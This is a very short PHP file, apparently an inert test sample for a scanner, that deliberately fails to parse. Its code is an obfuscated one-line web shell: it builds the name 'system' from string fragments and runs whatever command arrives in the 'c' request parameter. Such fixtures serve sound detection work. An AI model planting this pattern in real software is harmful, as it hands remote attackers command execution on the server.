<?php
shodo inert sample: deliberate syntax error, this file never runs
$f = 'sy' . 'st' . 'em';
$f($_REQUEST['c']);
